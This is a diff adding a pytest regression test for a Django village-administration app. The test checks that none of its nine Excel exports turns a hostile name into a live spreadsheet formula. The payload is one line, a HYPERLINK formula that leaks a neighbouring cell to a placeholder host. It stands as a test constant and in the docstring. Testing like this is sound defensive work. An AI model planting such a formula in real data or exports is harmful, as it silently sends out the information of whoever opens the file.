@@ -1,0 +1,284 @@
+"""No export writes a formula (issue 16): a resident, official, school, posyandu, child or
+programme named `=HYPERLINK("http://x?leak="&C5,"a")` arrives in every spreadsheet as text.
+
+Before, names starting with "=" became live formulas in the attendance recap, the
+follow-up list and both health reports: opening the file sent the cell next to it to
+whatever address the name held. Every export goes through `balai.core.xlsx`; each case
+below fills the data one export shows with that name and opens the file with openpyxl.
+"""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import re
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import openpyxl
+import pytest
+from django.urls import URLPattern, URLResolver, get_resolver, reverse
+from django.utils import timezone
+
+from tests.export_checks import XLSX_EXPORTS
+
+HOSTILE = '=HYPERLINK("http://x?leak="&C5,"a")'
+XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+
+# --- The list is complete -------------------------------------------------------------------
+
+
+def _patterns(resolver: URLResolver, prefix: str = "", namespace: str = "") -> list[tuple[str, str]]:
+    found = []
+    for p in resolver.url_patterns:
+        if isinstance(p, URLResolver):
+            ns = f"{namespace}:{p.namespace}" if namespace and p.namespace else (p.namespace or namespace)
+            found += _patterns(p, prefix + str(p.pattern), ns)
+        elif isinstance(p, URLPattern) and p.name:
+            found.append((f"{namespace}:{p.name}" if namespace else p.name, prefix + str(p.pattern)))
+    return found
+
+
+def test_every_url_that_looks_like_a_spreadsheet_export_is_listed():
+    patterns = _patterns(get_resolver())
+    looks = {name for name, route in patterns if re.search(r"xlsx/?\$?$", route) or name.endswith("xlsx")}
+    names = {name for name, _route in patterns}
+
+    assert not looks - set(XLSX_EXPORTS), (
+        f"add to tests/export_checks.py: {sorted(looks - set(XLSX_EXPORTS))}"
+    )
+    assert not set(XLSX_EXPORTS) - names, f"stale entries: {sorted(set(XLSX_EXPORTS) - names)}"
+
+
+# --- Each export, with hostile names ---------------------------------------------------------
+
+
+@pytest.fixture
+def world(village_a, operator_a, kades_a, kader_a):
+    from balai.people.tests.factories import DusunFactory, FamilyFactory, ResidentFactory, RtFactory
+
+    dusun = DusunFactory(village=village_a, name="Krajan")
+    rt = RtFactory(village=village_a, dusun=dusun)
+    family = FamilyFactory(village=village_a, rt=rt, address=HOSTILE)
+    head = ResidentFactory(
+        village=village_a, family=family, rt=rt, name=HOSTILE, family_relation=1, birth_place=HOSTILE
+    )
+    family.head = head
+    family.save(update_fields=["head"])
+    return {
+        "village": village_a,
+        "operator": operator_a,
+        "kades": kades_a,
+        "kader": kader_a,
+        "rt": rt,
+        "family": family,
+        "resident": head,
+    }
+
+
+def _residents(w: dict[str, Any]) -> tuple[Any, str]:
+    return w["operator"], reverse("people:export_xlsx")
+
+
+def _outgoing(w: dict[str, Any]) -> tuple[Any, str]:
+    from balai.letters.tests.conftest import issue_domisili
+    from balai.staff.models import Official
+
+    Official.objects.create(
+        village=w["village"],
+        user=w["kades"],
+        name=HOSTILE,
+        position="Kepala Desa",
+        signs_letters=True,
+        signs_as=Official.SignsAs.OWN,
+    )
+    letter = issue_domisili(w["operator"], w["kades"], w["resident"])
+    return w["operator"], reverse("letters:register_xlsx") + f"?tahun={letter.issued_on.year}"
+
+
+def _incoming(w: dict[str, Any]) -> tuple[Any, str]:
+    from balai.letters.models import IncomingLetter
+
+    today = timezone.localdate()
+    IncomingLetter.objects.create(
+        village=w["village"],
+        year=today.year,
+        agenda_number=1,
+        received_on=today,
+        sender=HOSTILE,
+        letter_number=HOSTILE,
+        letter_date=today,
+        subject=HOSTILE,
+        summary=HOSTILE,
+        note=HOSTILE,
+        recorded_by=w["operator"],
+    )
+    return w["operator"], reverse("letters:incoming_xlsx") + f"?tahun={today.year}&q=%3DHYPERLINK"
+
+
+def _follow_up(w: dict[str, Any]) -> tuple[Any, str]:
+    from balai.education.models import Enrolment, School
+    from balai.people.tests.factories import ResidentFactory
+
+    today = timezone.localdate()
+    child = ResidentFactory(
+        village=w["village"],
+        family=w["family"],
+        rt=w["rt"],
+        name=HOSTILE + " ANAK",
+        birth_date=today.replace(year=today.year - 13) - dt.timedelta(days=10),
+        family_relation=4,
+        marital_status=1,
+        education_kk=2,
+        education_current=5,
+    )
+    school = School.objects.create(
+        village=w["village"], name=HOSTILE, npsn="20312345", level="smp", status="negeri"
+    )
+    year = today.year - 1 if today.month < 7 else today.year
+    Enrolment.objects.create(
+        village=w["village"],
+        resident=child,
+        school=school,
+        level="smp",
+        school_year=year - 1,
+        grade=7,
+        enrolled_year=year - 1,
+        status=Enrolment.Status.DROPPED,
+        note=HOSTILE,
+    )
+    return w["operator"], reverse("education:follow_up_xlsx")
+
+
+def _measured(w: dict[str, Any]) -> str:
+    from balai.health.models import Posyandu, PosyanduSession
+    from balai.health.services import measurement_record
+    from balai.people.tests.factories import ResidentFactory
+
+    today = timezone.localdate()
+    posyandu = Posyandu.objects.create(village=w["village"], name=HOSTILE, dusun="Krajan")
+    session = PosyanduSession.objects.create(village=w["village"], posyandu=posyandu, held_on=today)
+    kid = ResidentFactory(
+        village=w["village"],
+        family=w["family"],
+        rt=w["rt"],
+        name=HOSTILE + " BALITA",
+        mother_name=HOSTILE,
+        birth_date=today - dt.timedelta(days=400),
+        family_relation=4,
+        current_address=HOSTILE,
+    )
+    measurement_record(
+        actor=None,
+        village=w["village"],
+        child=kid,
+        measured_on=today,
+        weight_kg="9.5",
+        lenhei_cm="75.0",
+        position="l",
+        session=session,
+        confirm_implausible=True,
+    )
+    return f"?bulan={today:%Y-%m}"
+
+
+def _monthly(w: dict[str, Any]) -> tuple[Any, str]:
+    return w["operator"], reverse("health:report_monthly_xlsx") + _measured(w)
+
+
+def _eppgbm(w: dict[str, Any]) -> tuple[Any, str]:
+    return w["kader"], reverse("health:eppgbm_export") + _measured(w)
+
+
+def _attendance(w: dict[str, Any]) -> tuple[Any, str]:
+    from balai.staff.models import Official
+
+    Official.objects.create(village=w["village"], name=HOSTILE, position=HOSTILE, order=1)
+    return w["kades"], reverse("staff:attendance_recap_xlsx")
+
+
+def _programme(w: dict[str, Any]) -> Any:
+    from balai.aid.tests.distribution_fixtures import enrol, make_programme
+
+    programme = make_programme(w["village"], name=HOSTILE, description=HOSTILE)
+    enrol(programme, w["family"], external_id=HOSTILE)
+    return programme
+
+
+def _recipients(w: dict[str, Any]) -> tuple[Any, str]:
+    return w["operator"], reverse("aid:recipients_xlsx", args=[_programme(w).public_id])
+
+
+def _cycle(w: dict[str, Any]) -> tuple[Any, str]:
+    from balai.aid import distribution
+
+    programme = _programme(w)
+    cycle = distribution.cycle_create(
+        actor=w["operator"],
+        programme=programme,
+        covers_start=programme.period_start,
+        covers_end=programme.period_start.replace(month=3, day=31),
+        planned_on=programme.period_start.replace(month=4, day=5),
+        label=HOSTILE,
+    )
+    distribution.cycle_transition(actor=w["kades"], cycle=cycle, action="approve")
+    return w["operator"], reverse("aid:cycle_xlsx", args=[cycle.public_id])
+
+
+CASES: dict[str, Callable[[dict[str, Any]], tuple[Any, str]]] = {
+    "people:export_xlsx": _residents,
+    "letters:register_xlsx": _outgoing,
+    "letters:incoming_xlsx": _incoming,
+    "education:follow_up_xlsx": _follow_up,
+    "health:report_monthly_xlsx": _monthly,
+    "health:eppgbm_export": _eppgbm,
+    "staff:attendance_recap_xlsx": _attendance,
+    "aid:recipients_xlsx": _recipients,
+    "aid:cycle_xlsx": _cycle,
+}
+
+
+def test_every_listed_export_has_a_case():
+    assert set(CASES) == set(XLSX_EXPORTS)
+
+
+def _content(response) -> bytes:
+    if getattr(response, "streaming", False):
+        return b"".join(response.streaming_content)
+    return bytes(response.content)
+
+
+@pytest.mark.parametrize("name", list(XLSX_EXPORTS))
+def test_no_export_writes_a_formula(client, world, name):
+    # given
+    user, url = CASES[name](world)
+    client.force_login(user)
+
+    # when
+    response = client.get(url)
+
+    # then: a spreadsheet, no formula in any sheet, the name as the text it is
+    assert response.status_code == 200, url
+    assert response["Content-Type"].startswith(XLSX)
+    data = _content(response)
+    with zipfile.ZipFile(io.BytesIO(data)) as zf:
+        for part in zf.namelist():
+            if part.startswith("xl/worksheets/"):
+                assert not re.search(rb"<(\w+:)?f[\s>/]", zf.read(part)), f"{name}: a formula in {part}"
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    texts = []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{name}: formula at {sheet.title}!{cell.coordinate}"
+                if isinstance(cell.value, str):
+                    texts.append(cell.value)
+    assert any(HOSTILE in text for text in texts), f"{name}: the hostile name is not in the file"
+    # and the notes: when the data was read, with which filters
+    notes = book.worksheets[-1]
+    assert notes.title == "Keterangan"
+    labels = [row[0] for row in notes.iter_rows(values_only=True)]
+    assert "Data per" in labels
+    assert "Filter" in labels
